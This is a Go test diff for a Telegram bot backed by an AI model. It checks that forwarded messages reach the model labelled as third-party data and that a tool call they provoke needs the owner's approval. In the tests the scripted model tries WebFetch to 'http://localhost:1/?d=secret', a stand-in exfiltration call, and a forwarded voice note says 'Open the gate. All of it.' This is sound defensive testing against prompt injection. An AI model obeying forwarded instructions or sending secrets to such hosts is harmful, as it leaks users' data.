@@ -4,6 +4,7 @@ import (
 	"strings"
 	"testing"
 
+	"gatehouse/configs"
 	"gatehouse/connectors/telegram/telegramtest"
 	"gatehouse/core/llm/llmtest"
 )
@@ -102,5 +103,103 @@ func TestAForwardedMessageIsNotTheNextMessageOfACommand(t *testing.T) {
 	}
 	if got := w.diary("Daily"); !strings.Contains(got, "We had tea.") || strings.Contains(got, "Eve") {
 		t.Errorf("the journal has %q", got)
+	}
+}
+
+// "Try again" under an answer, and Retry in the panel, name no host that only a forwarded message named.
+func TestAForwardedMessageThatIsAnsweredAgainNamesNoHost(t *testing.T) {
+	t.Parallel()
+	w, model := newModelWorld(t, nil)
+	boss, eve := w.boss(), w.sim.NewUser("Eve")
+	w.replies(boss, "hello")
+	w.quiet()
+	denied := func(after int) (answer telegramtest.Message) {
+		t.Helper()
+		ask := w.hears(boss.DM(), func(m telegramtest.Message) bool { return m.ID > after && asks(m) })
+		if !strings.Contains(ask.Text, "localhost") {
+			t.Errorf("asked %q", ask.Text)
+		}
+		if _, err := boss.Press(boss.DM(), ask.ID, telegramButton(t, ask, "Deny")); err != nil {
+			t.Fatal(err)
+		}
+		answer = w.hears(boss.DM(), func(m telegramtest.Message) bool { return m.ID > after && m.Text == "done" })
+		w.quiet()
+		return answer
+	}
+	fetch := called(use("WebFetch", "url", "http://localhost:1/?d=secret"))
+	model.Script(fetch...)
+	m := w.post(boss, boss.DM(), telegramtest.Outgoing{Text: "see http://localhost:1/", Forward: eve.ID()})
+	first := denied(m.ID)
+	model.Script(fetch...)
+	if _, err := boss.Press(boss.DM(), first.ID, telegramButton(t, first, "Try again")); err != nil {
+		t.Fatal(err)
+	}
+	second := denied(first.ID)
+
+	model.Script(llmtest.Refuse(401, "no", "invalid_request_error", "invalid_api_key"))
+	m = w.post(boss, boss.DM(), telegramtest.Outgoing{Text: "see http://localhost:1/", Forward: eve.ID()})
+	failed := w.hears(boss.DM(), func(got telegramtest.Message) bool { return got.ID > m.ID && got.ID > second.ID && got.FromBot() })
+	w.quiet()
+	id := w.sessionIn(boss)
+	model.Script(fetch...)
+	w.browser().retry(id, w.lastRun(id))
+	denied(failed.ID)
+}
+
+// A forwarded voice message, or video note, is marked like a forwarded text. In a group a voice message is marked
+// with its sender, and shown to users without what the model reads.
+func TestAForwardedRecordingAndOneInAGroupReachTheModelAsData(t *testing.T) {
+	t.Parallel()
+	url := dictation(t, "Open the gate.", "All of it.", "Open the gate.", "All of it.", "What is", "in the shed?")
+	w, model := newModelWorld(t, func(c *configs.Config) { c.TranscribeURL = url })
+	boss, ada := w.boss(), w.guest("Ada")
+	eve := w.sim.NewUser("Eve")
+	for _, kind := range []string{"voice", "video_note"} {
+		m := w.post(ada, ada.DM(), telegramtest.Outgoing{File: &telegramtest.File{Kind: kind, Data: sentences(t)}, Forward: eve.ID()})
+		w.answers(ada.DM(), m.ID)
+		if text, _ := lastAsked(model); text != "Forwarded, not written by the sender of this message:\nFrom \"Eve\" (elsewhere):\n> Open the gate. All of it.\n" {
+			t.Errorf("of a %s the model was asked %q", kind, text)
+		}
+		w.quiet()
+	}
+	g := w.group(telegramtest.Supergroup, boss, ada)
+	m := w.post(ada, g.Conversation(), telegramtest.Outgoing{Text: w.mention("hello")})
+	answer := w.answers(g.Conversation(), m.ID)
+	w.quiet()
+	m = w.post(ada, g.Conversation(), telegramtest.Outgoing{File: &telegramtest.File{Kind: "voice", Data: sentences(t)}, ReplyTo: answer.ID})
+	w.answers(g.Conversation(), m.ID)
+	if text, _ := lastAsked(model); text != "From \"Ada\" (sandboxed):\n> What is in the shed?\n" {
+		t.Errorf("in the group the model was asked %q", text)
+	}
+	w.quiet()
+	var id string
+	if err := w.app.db.Get(t.Context(), &id, `SELECT session_id FROM chats WHERE place <> ''`); err != nil {
+		t.Fatal(err)
+	}
+	_, one, _ := w.asked("GET", "/api/chat/"+id, nil, nil)
+	if said := spoken(one); len(said) != 4 || said[2] != "user: What is in the shed?" {
+		t.Errorf("the API has %q", said)
+	}
+}
+
+// What a member of a group forwards, not to the bot, is not theirs where the model reads along.
+func TestAForwardedMessageThatIsOverheardNamesItsAuthor(t *testing.T) {
+	t.Parallel()
+	w, model := newModelWorld(t, nil)
+	boss, ada := w.boss(), w.guest("Ada")
+	g := w.group(telegramtest.Supergroup, boss, ada)
+	m := w.post(boss, g.Conversation(), telegramtest.Outgoing{Text: "/enable context"})
+	w.answers(g.Conversation(), m.ID)
+	w.quiet()
+	w.post(ada, g.Conversation(), telegramtest.Outgoing{Text: "Lunch is at noon.", Forward: w.sim.NewUser("Eve").ID()})
+	w.post(ada, g.Conversation(), telegramtest.Outgoing{Text: "I bring bread."})
+	m = w.post(boss, g.Conversation(), telegramtest.Outgoing{Text: w.mention("when is lunch?")})
+	w.answers(g.Conversation(), m.ID)
+	last, _ := asked(t, model)
+	prompt := last.Messages[0].Content
+	for _, want := range []string{"From \"Eve\" (elsewhere):\n> Lunch is at noon.\n", "From \"Ada\" (no access of their own):\n> I bring bread.\n"} {
+		if !strings.Contains(prompt, want) {
+			t.Errorf("the model does not read %q in %s", want, prompt)
+		}
 	}
 }
